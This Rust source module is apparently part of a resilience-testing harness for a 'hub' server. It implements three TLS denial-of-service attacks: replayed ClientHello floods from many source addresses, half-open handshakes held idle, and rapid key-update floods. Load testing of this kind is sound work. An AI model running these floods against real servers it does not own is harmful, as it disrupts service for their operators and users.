//! Attacks on TLS itself: handshakes and key updates.

use super::attack::{Attack, Over};
use super::flood::describe_error;
use super::progress::{Pace, Progress};
use super::target::Target;
use crate::Result;
use crate::link::Link;
use rustls::pki_types::ServerName;
use rustls::{ClientConnection, Connection};
use std::net::Ipv4Addr;
use std::thread;
use std::time::Duration;

/// Handshakes per second, the addresses they come from, and the threads that make them.
const HANDSHAKES: f64 = 1_000.0;
const ADDRESSES: usize = 200;
const THREADS: usize = 2;
/// The number of handshakes left incomplete.
const HALF_OPEN: usize = 400;
/// Key updates per second, on all connections together.
const UPDATES: f64 = 4_000.0;
const RETRY_DELAY: Duration = Duration::from_millis(100);

pub fn attacks() -> Vec<Attack> {
    vec![
        Attack::new("handshakes", "1,000 TLS handshakes per second", handshakes).over(Over::Tls),
        Attack::new(
            "handshakes",
            "400 TLS handshakes that stay half open",
            half_open,
        )
        .over(Over::Tls),
        Attack::new("handshakes", "endless TLS key updates", key_updates).over(Over::Tls),
    ]
}

/// A ClientHello that can be replayed on any number of connections.
fn hello(target: &Target) -> Result<Vec<u8>> {
    let config = target.tls.clone().ok_or("the hub does not use TLS")?;
    let mut client = ClientConnection::new(config, ServerName::try_from("localhost")?)?;
    let mut hello = Vec::new();
    client.write_tls(&mut hello)?;
    Ok(hello)
}

/// Makes the hub compute the key exchange and the signature of many handshakes. Replaying one
/// ClientHello costs the client nothing.
fn handshakes(target: &Target, progress: &Progress) -> Result<()> {
    let hello = hello(target)?;
    let addresses: Vec<_> = (0..ADDRESSES).map(|_| target.new_address()).collect();
    thread::scope(|scope| {
        for thread in 0..THREADS {
            let (hello, addresses) = (&hello, &addresses);
            scope.spawn(move || {
                let mut pace = Pace::new(HANDSHAKES / THREADS as f64);
                // Kept until the hub has had time to answer.
                let mut open: Vec<Link> = Vec::new();
                for number in (thread..).step_by(THREADS) {
                    if !progress.is_running() {
                        return;
                    }
                    let made = Link::connect_from(addresses[number % ADDRESSES], target.address)
                        .and_then(|mut link| link.push(hello).map(|_| link));
                    match made {
                        Ok(link) => {
                            progress.connected();
                            open.push(link);
                        }
                        Err(error) => progress.ended(describe_error(&error)),
                    }
                    if open.len() > 100 {
                        open.remove(0);
                    }
                    pace.sent(1);
                }
            });
        }
    });
    Ok(())
}

fn half_open(target: &Target, progress: &Progress) -> Result<()> {
    let hello = hello(target)?;
    let mut open = Vec::new();
    for number in 0..HALF_OPEN {
        let mut link = Link::connect_from(target.new_address(), target.address)?;
        progress.connected();
        // Half of them stop inside the ClientHello, the others after it.
        let half = if number % 2 == 0 {
            hello.len() / 2
        } else {
            hello.len()
        };
        let _ = link.push(&hello[..half]);
        open.push(link);
    }
    while progress.is_running() {
        open.retain_mut(|link| match link.pump(&[], |_| {}) {
            Ok(Some(_)) => true,
            Ok(None) => {
                progress.ended("closed");
                false
            }
            Err(error) => {
                progress.ended(describe_error(&error));
                false
            }
        });
        progress.sleep(Duration::from_millis(100));
    }
    Ok(())
}

fn key_updates(target: &Target, progress: &Progress) -> Result<()> {
    thread::scope(|scope| {
        for _ in 0..THREADS {
            let from = target.new_address();
            scope.spawn(move || {
                while progress.is_running() {
                    if let Err(error) = update_keys(target, from, progress) {
                        progress.ended(error);
                    }
                    progress.sleep(RETRY_DELAY);
                }
            });
        }
    });
    Ok(())
}

fn update_keys(target: &Target, from: Ipv4Addr, progress: &Progress) -> Result<()> {
    let mut link = target.connect(from)?;
    progress.connected();
    let mut pace = Pace::new(UPDATES / THREADS as f64);
    while progress.is_running() {
        match link.tls() {
            Some(Connection::Client(client)) => client.refresh_traffic_keys()?,
            _ => return Err("this is not a TLS client connection".into()),
        }
        pace.sent(1);
        match link.pump(&[], |_| {}) {
            Ok(Some(_)) => {}
            Ok(None) => {
                progress.ended("closed");
                return Ok(());
            }
            Err(error) => {
                progress.ended(describe_error(&error));
                return Ok(());
            }
        }
    }
    Ok(())
}
